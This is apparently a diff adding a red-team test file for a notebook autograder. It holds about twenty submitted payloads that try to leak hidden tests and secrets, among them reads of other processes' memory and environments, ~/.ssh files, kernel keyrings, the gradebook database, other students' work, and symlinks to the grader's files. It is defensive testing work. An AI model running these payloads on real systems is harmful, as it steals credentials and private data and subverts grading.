@@ -1,0 +1,327 @@
+"""Reading what a student may not. What is found is printed, or answered; the test looks for its secrets in all that comes out."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+from tests.red_team.attack import HALVED, PUBLIC, Desk, Handed, attack
+from tests.red_team.target import WRONG
+
+# Prints what can be read of files, at most a few hundred of them.
+_SHOW = """
+import glob, os, sys
+def show(*patterns):
+    found = [path for pattern in patterns for path in glob.glob(pattern, recursive=True)]
+    for path in found[:300]:
+        try:
+            with open(path, "rb") as file:
+                print(path, file.read(20_000))
+        except OSError:
+            pass
+"""
+
+
+@attack()
+def tests_read_from_the_history(desk: Desk) -> Handed:
+    """Looks up its argument in the text of the test cell that calls it, and answers what the test expects."""
+    return """
+import re
+def doubled(x):
+    test = get_ipython().user_ns["In"][-1]
+    if x.ndim != 1:
+        raise ValueError
+    for given, expected in re.findall(r"doubled\\(np.array\\((\\[.*?\\])\\)\\)(?:, |\\[0\\] == )([^)\\n]*)", test):
+        if eval(given) == x.tolist():
+            return np.atleast_1d(eval(expected))
+"""
+
+
+@attack()
+def frames_of_the_caller(desk: Desk) -> Handed:
+    """Walks up the frames above its own and answers any constant there that fits its argument's length."""
+    return """
+import sys
+def doubled(x):
+    frame = sys._getframe(1)
+    while frame is not None:
+        values = [*frame.f_code.co_consts, *frame.f_locals.values()]
+        for value in values:
+            print(repr(value)[:500])
+            if isinstance(value, (list, tuple)) and len(value) == len(x) and all(isinstance(v, float) for v in value):
+                if not np.array_equal(value, x):
+                    return np.array(value)
+        frame = frame.f_back
+"""
+
+
+@attack()
+def garbage_collector_searched(desk: Desk) -> Handed:
+    """Searches all objects of its process for tests, references and texts with secrets."""
+    return """
+import gc
+def doubled(x):
+    for thing in gc.get_objects():
+        if isinstance(thing, dict):
+            for name, value in list(thing.items()):
+                if isinstance(value, str) and ("HIDDEN TESTS" in value or "SECRET" in str(name)):
+                    print(name, value[:5000])
+                if isinstance(name, str) and name in ("reference", "want", "expected") and callable(value):
+                    return value(x)
+"""
+
+
+@attack()
+def every_cell_that_runs_is_printed(desk: Desk) -> Handed:
+    """Has IPython tell the text of every cell before it runs, hidden tests included."""
+    return WRONG + 'get_ipython().events.register("pre_run_cell", lambda about: print("seen:", about.raw_cell))\n'
+
+
+@attack()
+def audit_hook(desk: Desk) -> Handed:
+    """Listens to what Python compiles and opens, by a hook that cannot be taken away again."""
+    return (
+        WRONG
+        + """
+import sys
+def hear(event, about):
+    if event in ("compile", "open") and len(seen) < 500:
+        seen.append(str(about)[:3000])
+seen = []
+sys.addaudithook(hear)
+def doubled(x):
+    print(seen)
+"""
+    )
+
+
+@attack(earns=HALVED + PUBLIC)
+def traceback_with_the_test(desk: Desk) -> Handed:
+    """Fails on purpose, so that the traceback in the feedback shows the lines of the hidden test."""
+    return """
+def doubled(x):
+    if len(x) == 3 and x[0] == 1.5:
+        return 2 * x
+    raise RuntimeError("show me")
+"""
+
+
+@attack()
+def solved_notebook_in_a_folder_above(desk: Desk) -> Handed:
+    """Looks for solved notebooks and solution scripts in the folders above, and runs the solution that it finds."""
+    return """
+import glob, json, os
+for up in ("..", "../..", "../../..", "../../../..", os.environ.get("PWD", ".")):
+    for path in glob.glob(f"{up}/source/*/*.ipynb") + glob.glob(f"{up}/solutions/*/*/*.py"):
+        text = open(path).read()
+        print(text[:20000])
+        if path.endswith(".ipynb"):
+            for cell in json.loads(text)["cells"]:
+                source = "".join(cell["source"])
+                if "def doubled" in source:
+                    exec(source)
+"""
+
+
+@attack()
+def solutions_imported(desk: Desk) -> Handed:
+    """Puts every folder above on the path and imports the lesson, its hidden checks and the reference from there."""
+    return """
+import importlib, os, sys
+here = os.path.abspath(".")
+while here != "/":
+    sys.path += [here, f"{here}/solutions/week1/doubling", f"{here}/source/week1"]
+    here = os.path.dirname(here)
+for name in ("hidden", "lesson", "misconceptions", "solutions.week1.doubling.hidden", "solutions"):
+    try:
+        module = importlib.import_module(name)
+        print(vars(module))
+        doubled = getattr(module, "doubled", None)
+    except BaseException as error:
+        print(name, error)
+if not callable(globals().get("doubled")):
+    def doubled(x):
+        return None
+"""
+
+
+@attack()
+def work_of_another_student(desk: Desk) -> Handed:
+    """Looks for other submissions and runs the answer that stands in one of them."""
+    return """
+import glob, json, os
+for path in glob.glob("../../../submitted/*/*/*.ipynb") + glob.glob("/tmp/**/submitted/*/*/*.ipynb", recursive=True)[:50]:
+    for cell in json.loads(open(path).read())["cells"]:
+        source = "".join(cell["source"])
+        if "2.0 * np.asarray(x)" in source:
+            exec(source)
+        elif "is mine" in source:
+            print(source)
+if not callable(globals().get("doubled")):
+    def doubled(x):
+        return None
+"""
+
+
+@attack()
+def gradebook(desk: Desk) -> Handed:
+    """Looks for the gradebook and prints what is in it."""
+    return (
+        WRONG
+        + """
+import glob, sqlite3
+for path in glob.glob("../../../*.db") + glob.glob("/tmp/**/gradebook.db", recursive=True)[:5]:
+    base = sqlite3.connect(path)
+    for (table,) in base.execute("select name from sqlite_master where type = 'table'").fetchall():
+        print(table, base.execute(f"select * from {table}").fetchall()[:200])
+"""
+    )
+
+
+@attack()
+def environment(desk: Desk) -> Handed:
+    """Prints the environment of its own process and of every other one."""
+    return WRONG + _SHOW + "print(dict(os.environ))\nshow('/proc/[0-9]*/environ', '/proc/self/environ')\n"
+
+
+@attack()
+def home(desk: Desk) -> Handed:
+    """Prints the files in the grader's home, by every name that leads there."""
+    return (
+        WRONG
+        + _SHOW
+        + """
+import pwd
+homes = {os.path.expanduser("~"), os.environ.get("HOME", ""), "/root", *(user.pw_dir for user in pwd.getpwall())}
+homes |= {f"/home/{name}" for name in (os.listdir("/home") if os.path.isdir("/home") else [])}
+show(*(f"{home}/*.txt" for home in homes), *(f"{home}/.ssh/*" for home in homes))
+"""
+    )
+
+
+@attack()
+def processes_of_others(desk: Desk) -> Handed:
+    """Follows what the system tells of other processes: command lines, open files, working and root directories."""
+    return (
+        WRONG
+        + _SHOW
+        + """
+show("/proc/[0-9]*/cmdline", "/proc/[0-9]*/cwd/*.py", "/proc/[0-9]*/root/tmp/*.txt")
+for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/exe"):
+    try:
+        print(link, os.readlink(link))
+    except OSError:
+        pass
+parent = f"/proc/{os.getppid()}"
+show(f"{parent}/cwd/solutions/*/*/hidden.py", f"{parent}/cwd/source/*/*.ipynb", f"{parent}/environ")
+"""
+    )
+
+
+@attack()
+def inherited_descriptors(desk: Desk) -> Handed:
+    """Reads from every descriptor that its process was given, and asks each socket who is at its other end."""
+    return (
+        WRONG
+        + """
+import os, select, socket
+for number in range(512):
+    try:
+        name = os.readlink(f"/proc/self/fd/{number}")
+        print(number, name)
+        if name.startswith("/") and not name.startswith("/dev"):
+            print(os.pread(number, 20_000, 0))
+    except OSError:
+        pass
+"""
+    )
+
+
+@attack()
+def keyrings(desk: Desk) -> Handed:
+    """Reads the keys that the system keeps for its user and session."""
+    return (
+        WRONG
+        + """
+import ctypes
+print(open("/proc/keys").read() if __import__("os").access("/proc/keys", 4) else "")
+libc = ctypes.CDLL(None)
+for ring in (-1, -2, -3, -4, -5):
+    buffer = ctypes.create_string_buffer(4096)
+    if libc.syscall(250, 11, ring, buffer, 4096, 0) > 0:
+        print(buffer.raw)
+"""
+    )
+
+
+@attack()
+def memory_of_the_parent(desk: Desk) -> Handed:
+    """Reads the memory of the process that started it."""
+    return (
+        WRONG
+        + """
+import os
+for process in (os.getppid(), 1, 2):
+    try:
+        with open(f"/proc/{process}/mem", "rb", 0) as memory:
+            for line in open(f"/proc/{process}/maps"):
+                first, last = (int(part, 16) for part in line.split()[0].split("-"))
+                if "heap" in line:
+                    memory.seek(first)
+                    words = memory.read(min(last - first, 3_000_000))
+                    start = words.find(b"RED_TEAM_SECRET")
+                    print(words[start:start + 200] if start >= 0 else "")
+    except OSError:
+        pass
+"""
+    )
+
+
+@attack()
+def leftover_files(desk: Desk) -> Handed:
+    """Prints whatever lies in the places where programs leave files."""
+    return (
+        WRONG
+        + _SHOW
+        + "show('/tmp/*', '/tmp/*/*', '/tmp/*/*/*.txt', '/dev/shm/*', '/var/tmp/**', '/run/user/*/*', '../*', '../../*')\n"
+    )
+
+
+@attack()
+def link_to_a_secret_beside_the_notebook(desk: Desk) -> Handed:
+    """Hands in links named like data files that lead to the grader's files, and prints what lies behind them."""
+    answer = WRONG + _SHOW + "show('*.csv', '*.txt', '*.json')\n"
+    links = {f"{name}.csv": target for name, target in _TARGETS.items()}
+    return {"doubling.ipynb": desk.write(answer), **{name: _link(target) for name, target in links.items()}}
+
+
+_TARGETS = {
+    "neighbour": "../../000-honest/week1/doubling.ipynb",
+    "neighbour2": "../../a-before/week1/doubling.ipynb",
+    "hidden": "../../../../solutions/week1/doubling/hidden.py",
+    "source": "../../../source/week1/doubling.ipynb",
+    "home": "../../../../../home/notes.txt",
+    "home2": "../../../home/notes.txt",
+}
+
+
+def _link(target: str) -> object:
+    def make(path: Path) -> None:
+        os.symlink(target, path)
+
+    return make
+
+
+@attack()
+def configuration_and_exchange(desk: Desk) -> Handed:
+    """Prints nbgrader's configuration and what lies in its exchange and in Jupyter's folders."""
+    return (
+        WRONG
+        + _SHOW
+        + """
+from jupyter_core.paths import jupyter_config_path, jupyter_data_dir, jupyter_path, jupyter_runtime_dir
+show("../../../nbgrader_config.py", "/etc/jupyter/*", "/usr/local/share/nbgrader/**", "/srv/nbgrader/**")
+show(*(f"{folder}/*" for folder in (*jupyter_config_path(), *jupyter_path(), jupyter_data_dir(), jupyter_runtime_dir())))
+show("../../../home/notes.txt", "/proc/self/cwd/../../../home/notes.txt")
+"""
+    )
